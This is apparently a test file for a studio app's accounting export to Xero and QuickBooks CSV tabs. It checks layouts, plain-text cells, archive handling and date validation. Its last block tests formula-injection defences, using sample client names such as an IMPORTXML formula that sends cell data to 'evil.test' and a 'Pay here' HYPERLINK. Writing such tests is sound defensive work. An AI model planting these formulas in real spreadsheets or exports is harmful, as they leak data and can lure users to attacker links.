// Export for accounting on the built bundle: the three tabs in the vendors' layouts for a date range,
// every cell plain text (names typed "=1+1" stay text; dates never become date cells), every cell that
// would start a formula in the downloaded CSV behind a single quote (amounts left numbers), rewritten
// whole by the next export, archived months exported the same, and bad dates refused with nothing changed.
import { FORTNIGHTLY_RESET, newStudio, ok, type Studio, setSetting } from '../support/studio';

const TABS = ['Xero Invoices', 'Xero Payments', 'QuickBooks Invoices'];

function sheet(studio: Studio, name: string) {
  return studio.services().SpreadsheetApp.getActive().getSheetByName(name);
}

/** A tab's cells as the CSV download shows them, the blank rows below dropped. */
function csv(studio: Studio, name: string): string[][] {
  const rows: string[][] = sheet(studio, name).getDataRange().getDisplayValues();
  return rows.filter((r) => r.some((c) => c !== ''));
}

/**
 * A studio at 10 % GST, prices including it: a taxed and a tax-free package sold on 5 Jan 2026 to a
 * client named "=1+1" and to Ben, billed fortnightly to 2 March, each invoice paid on its due date.
 */
function studioWithHistory(): Studio {
  const studio = newStudio();
  setSetting(studio, 'Tax rate (%)', '10');
  const day = '2026-01-05';
  const taxed = ok(studio.call(day, 'savePackage', { ...FORTNIGHTLY_RESET, priceCents: 6050 })).package;
  const free = ok(studio.call(day, 'savePackage', { ...FORTNIGHTLY_RESET, name: 'Physio', taxFree: true })).package;
  const ann = ok(studio.call(day, 'saveClient', { name: '=1+1', email: 'ann@example.com' })).client;
  const ben = ok(studio.call(day, 'saveClient', { name: 'Ben Okafor' })).client;
  ok(studio.call(day, 'sellPackage', { clientId: ann.id, packageId: taxed.id, startDate: day }));
  ok(studio.call(day, 'sellPackage', { clientId: ben.id, packageId: free.id, startDate: day }));
  ok(studio.call('2026-03-02', 'runDailyProcesses', {}));
  for (const inv of studio.dump('Invoices').Invoices) {
    const amount = Math.round(Number(inv.Amount) * 100);
    const date = String(inv['Due Date']);
    ok(studio.call('2026-03-02', 'recordPayment', { invoiceNo: inv['Invoice No'], amount, method: 'card', date }));
  }
  return studio;
}

describe('Export for accounting', () => {
  it('writes the three tabs for the range, in the vendors’ layouts, as plain text', () => {
    const studio = studioWithHistory();
    const reply = ok(studio.call('2026-03-03', 'exportForAccounting', { from: '2026-02-01', to: '2026-02-28' }));
    expect(reply.summary).toMatchObject({ invoices: 4, payments: 4, voided: 0, tabs: TABS, archive: 'not needed' });
    expect(reply.summary.message).toMatch(
      /^Exported 4 invoices \(\$721\.00, tax \$11\.00\) and 4 payments \(\$721\.00\)/,
    );
    expect(reply.summary.message).toMatch(/Amounts are tax inclusive/);
    const xero = csv(studio, 'Xero Invoices');
    expect(xero[0].slice(0, 2)).toEqual(['*ContactName', 'EmailAddress']);
    expect(xero[0]).toHaveLength(27);
    const pick = (r: string[]) => [r[0], r[1], r[10], r[12], r[13], r[15], r[16], r[17], r[19], r[20]];
    expect(xero.slice(1).map(pick)).toEqual([
      [
        "'=1+1",
        'ann@example.com',
        '5',
        '2026-02-02',
        '2026-02-02',
        'Reformer Fortnightly: period 3, 2 Feb 2026',
        '1',
        '60.50',
        '200',
        'GST on Income',
      ],
      [
        'Ben Okafor',
        '',
        '6',
        '2026-02-02',
        '2026-02-02',
        'Physio: period 3, 2 Feb 2026',
        '1',
        '300.00',
        '200',
        'GST Free Income',
      ],
      [
        "'=1+1",
        'ann@example.com',
        '7',
        '2026-02-16',
        '2026-02-16',
        'Reformer Fortnightly: period 4, 16 Feb 2026',
        '1',
        '60.50',
        '200',
        'GST on Income',
      ],
      [
        'Ben Okafor',
        '',
        '8',
        '2026-02-16',
        '2026-02-16',
        'Physio: period 4, 16 Feb 2026',
        '1',
        '300.00',
        '200',
        'GST Free Income',
      ],
    ]);
    expect(csv(studio, 'Xero Payments')).toEqual([
      ['*Date', '*Amount', 'Payee', 'Description', 'Reference', 'Cheque Number'],
      ['2026-02-02', '60.50', "'=1+1", 'Payment of invoice 5 (Card)', '5', ''],
      ['2026-02-02', '300.00', 'Ben Okafor', 'Payment of invoice 6 (Card)', '6', ''],
      ['2026-02-16', '60.50', "'=1+1", 'Payment of invoice 7 (Card)', '7', ''],
      ['2026-02-16', '300.00', 'Ben Okafor', 'Payment of invoice 8 (Card)', '8', ''],
    ]);
    const qbo = csv(studio, 'QuickBooks Invoices');
    expect(qbo[0][0]).toBe('InvoiceNo');
    expect(qbo[1]).toEqual([
      '5',
      "'=1+1",
      '2026-02-02',
      '2026-02-02',
      '',
      'S-1', // Memo: the sale id (issue 31, item 8)
      'Reformer Fortnightly',
      'Reformer Fortnightly: period 3, 2 Feb 2026',
      '1',
      '60.50',
      '60.50',
      'GST on Income',
      '5.50',
      '2026-02-02',
    ]);
    // Every cell is text in a plain-text cell: no formula, no number, no date for Sheets to reformat.
    for (const name of TABS) {
      const range = sheet(studio, name).getDataRange();
      for (const row of range.getValues()) for (const cell of row) expect(typeof cell).toBe('string');
      for (const row of range.getNumberFormats()) for (const f of row) expect(f).toBe('@');
      for (const row of range.getFormulas()) for (const f of row) expect(f).toBe('');
    }
    const log = studio.dump('Run Log')['Run Log'].at(-1) as Record<string, unknown>;
    expect(log).toMatchObject({ Job: 'Export for accounting', Problems: 0 });
    expect(String(log.Details)).toMatch(/^Exported 4 invoice/);
  });

  it('a second export rewrites each tab whole; an empty range leaves the header rows', () => {
    const studio = studioWithHistory();
    ok(studio.call('2026-03-03', 'exportForAccounting', { from: '2026-01-01', to: '2026-02-28' }));
    expect(csv(studio, 'Xero Invoices')).toHaveLength(1 + 8);
    ok(studio.call('2026-03-03', 'exportForAccounting', { from: '2026-03-01', to: '2026-03-01' }));
    expect(csv(studio, 'Xero Invoices').map((r) => r[10])).toEqual(['*InvoiceNumber']);
    const empty = ok(studio.call('2026-03-03', 'exportForAccounting', { from: '2025-06-01', to: '2025-06-30' }));
    expect(empty.summary).toMatchObject({ invoices: 0, payments: 0 });
    for (const name of TABS) expect(csv(studio, name)).toHaveLength(1);
  });

  it('archived months export the same; an archive that cannot be opened is said plainly', () => {
    const studio = studioWithHistory();
    const range = { from: '2026-01-01', to: '2026-02-28' };
    ok(studio.call('2026-03-03', 'exportForAccounting', range));
    const before = TABS.map((name) => csv(studio, name));
    setSetting(studio, 'Archive after (days)', '14');
    const archived = ok(studio.call('2026-03-10', 'archiveHistory'));
    expect(archived.summary.moved.invoices).toBe(8);
    expect(studio.dump('Invoices').Invoices).toHaveLength(2); // the 2 March invoices stay live
    const reply = ok(studio.call('2026-03-10', 'exportForAccounting', range));
    expect(reply.summary.archive).toBe('included');
    expect(reply.summary.message).toMatch(/Archived months are included/);
    expect(TABS.map((name) => csv(studio, name))).toEqual(before);
    // The archive's id in the system tab made unreadable (as if the file were deleted).
    const system = sheet(studio, 'Studio Packages (system)');
    const rows: string[][] = system.getDataRange().getValues();
    const row = rows.findIndex((r) => r[0] === 'archive') + 1;
    const info = JSON.parse(rows[row - 1][1]);
    system.getRange(row, 2).setValue(JSON.stringify({ ...info, id: 'no-such-archive' }));
    const lost = ok(studio.call('2026-03-10', 'exportForAccounting', range));
    expect(lost.summary.archive).toBe('incomplete');
    expect(lost.summary.message).toMatch(/ARCHIVED MONTHS NOT INCLUDED: 1 archive spreadsheet could not be opened/);
    expect(csv(studio, 'Xero Invoices')).toHaveLength(1);
    expect(String(studio.dump('Run Log')['Run Log'].at(-1)?.Details)).toMatch(/ARCHIVED MONTHS NOT INCLUDED/);
  });

  it('refuses bad dates, naming the field, and changes nothing', () => {
    const studio = studioWithHistory();
    const before = JSON.stringify(studio.dump());
    const cases: [unknown, string][] = [
      [{ from: '2026-02-30', to: '2026-02-28' }, 'from'],
      [{ from: '2026-02-01', to: '28/02/2026' }, 'to'],
      [{ from: '2026-03-01', to: '2026-02-01' }, 'to'],
      [{}, 'from'],
    ];
    for (const [input, field] of cases) {
      const reply = studio.call('2026-03-03', 'exportForAccounting', input);
      expect(reply.ok).toBe(false);
      expect(reply.errors?.map((e) => e.field)).toContain(field);
    }
    expect(JSON.stringify(studio.dump())).toBe(before);
    for (const name of TABS) expect(sheet(studio, name)).toBeNull();
  });

  it('the menu item opens the export sidebar, last month by default', () => {
    const studio = newStudio();
    const rt = studio.runtime('2026-03-03');
    rt.load().menuExportForAccounting();
    const [sidebar] = rt.ui.sidebars;
    expect(sidebar.title).toBe('Export for accounting');
    expect(sidebar.content).toContain('2026-03-03');
    expect(sidebar.content).toContain('exportForAccounting');
  });
});

describe('Exports safe to open (issue 28, finding 9)', () => {
  const NAMES = [
    '=IMPORTXML("http://evil.test/?"&A1,"//a")',
    '=HYPERLINK("http://evil.test","Pay here")',
    '+1',
    '-1',
    '@x',
  ];

  it('no cell of the downloaded CSV starts a formula: names behind a single quote, amounts numbers', () => {
    const studio = newStudio();
    const day = '2026-02-02';
    const pkg = ok(studio.call(day, 'savePackage', { ...FORTNIGHTLY_RESET, name: '=1+1 Reformer' })).package;
    for (const name of NAMES) {
      const client = ok(studio.call(day, 'saveClient', { name })).client;
      ok(studio.call(day, 'sellPackage', { clientId: client.id, packageId: pkg.id, startDate: day }));
    }
    for (const inv of studio.dump('Invoices').Invoices) {
      const amount = Math.round(Number(inv.Amount) * 100);
      ok(studio.call(day, 'recordPayment', { invoiceNo: inv['Invoice No'], amount, method: 'card' }));
    }
    ok(studio.call('2026-02-03', 'exportForAccounting', { from: '2026-02-01', to: '2026-02-28' }));
    const starts = /^[=+\-@\t\r]/;
    const plainNumber = /^-?\d+(\.\d+)?$/;
    for (const tab of TABS) {
      const rows = csv(studio, tab);
      const running = rows.flat().filter((cell) => starts.test(cell) && !plainNumber.test(cell));
      expect({ tab, running }).toEqual({ tab, running: [] });
    }
    expect(
      csv(studio, 'Xero Invoices')
        .slice(1)
        .map((r) => r[0]),
    ).toEqual(NAMES.map((n) => `'${n}`));
    expect(csv(studio, 'QuickBooks Invoices')[1].slice(6, 11)).toEqual([
      "'=1+1 Reformer",
      "'=1+1 Reformer: period 1, 2 Feb 2026",
      '1',
      '300.00',
      '300.00',
    ]);
    expect(
      csv(studio, 'Xero Payments')
        .slice(1)
        .map((r) => [r[1], r[2]]),
    ).toEqual(NAMES.map((n) => ['300.00', `'${n}`]));
  });
});
